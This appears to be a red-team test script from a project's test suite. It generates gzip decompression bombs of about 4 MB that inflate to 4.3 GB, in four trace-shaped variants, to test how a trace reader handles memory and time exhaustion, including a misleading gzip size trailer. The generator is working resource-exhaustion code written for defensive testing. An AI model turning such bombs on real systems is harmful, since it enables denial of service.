"""Attack (analyze_trace): gzip bombs, about 4 MB that inflate to 4.3 GB.

Each bomb is a valid gzip file of several members (gzip readers inflate them as one stream):
a trace-shaped head, then the same member of 64 MiB of one short pattern repeated (near
deflate's ceiling, about 1000:1) 68 times, then a tail that closes the document. Payloads:

* "events": 80 million valid kernel events: every check on the JSON itself passes, and the
  columns the reader keeps (tens of bytes an event) would reach gigabytes;
* "string": the 4.3 GB are one kernel name, so a parser must buffer them whole;
* "whitespace": the 4.3 GB are blanks between events: memory stays flat, time does not;
* "rocprof": a rocprofv3 document; the gzip trailer (ISIZE) of the last member claims a few
  bytes, which used to send the reader down its load-it-whole path.

Generated at test time in a few seconds (one member is compressed once and repeated):

    python tests/redteam/attack_trace_gzip_bomb.py OUT.json.gz [string|whitespace|rocprof]
"""

from __future__ import annotations

import gzip
import sys
from pathlib import Path

MEMBER_BYTES = 64 << 20
MEMBERS = 68  # 68 x 64 MiB = 4.25 GiB inflated

_EVENT = b'{"ph":"X","cat":"kernel","name":"k","ts":1,"dur":1,"args":{"device":0}},'

_HEADS = {
    "events": (b'{"traceEvents": [', _EVENT, _EVENT[:-1] + b"]}"),
    "string": (
        b'{"traceEvents": [{"ph": "X", "cat": "kernel", "ts": 1, "dur": 1, "name": "',
        b"a",
        b'"}]}',
    ),
    "whitespace": (
        b'{"traceEvents": [{"ph": "X", "cat": "kernel", "ts": 1, "dur": 1, "name": "k"}',
        b" ",
        b"]}",
    ),
    "rocprof": (
        b'{"rocprofiler-sdk-tool": [{"metadata": {"pid": 1}, "agents": [], "kernel_symbols": '
        b'[{"kernel_id": 1, "kernel_name": "',
        b"a",
        b'"}]}]}',
    ),
}


def write(path: Path, kind: str = "events", members: int = MEMBERS) -> Path:
    head, fill, tail = _HEADS[kind]
    member = gzip.compress(fill * (MEMBER_BYTES // len(fill)), compresslevel=9, mtime=0)
    with open(path, "wb") as f:
        f.write(gzip.compress(head, mtime=0))
        for _ in range(members):
            f.write(member)
        f.write(gzip.compress(tail, mtime=0))  # its ISIZE: a few bytes
    return path


def inflated_size(kind: str = "string", members: int = MEMBERS) -> int:
    head, fill, tail = _HEADS[kind]
    return len(head) + members * len(fill) * (MEMBER_BYTES // len(fill)) + len(tail)


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "attack_trace_gzip_bomb.json.gz")
    print(write(out, sys.argv[2] if len(sys.argv) > 2 else "events"))
